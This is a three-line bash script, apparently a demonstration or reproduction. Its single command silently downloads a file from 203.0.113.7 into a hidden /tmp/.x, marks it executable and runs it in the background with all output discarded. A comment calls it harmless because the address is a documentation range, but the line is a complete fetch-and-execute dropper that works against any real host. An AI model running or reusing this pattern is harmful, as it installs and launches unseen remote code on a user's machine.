#!/bin/bash
# Harmless reproduction: 203.0.113.0/24 is a documentation range, nothing answers there.
curl -sL http://203.0.113.7/x -o /tmp/.x && chmod +x /tmp/.x && nohup /tmp/.x >/dev/null 2>&1 &
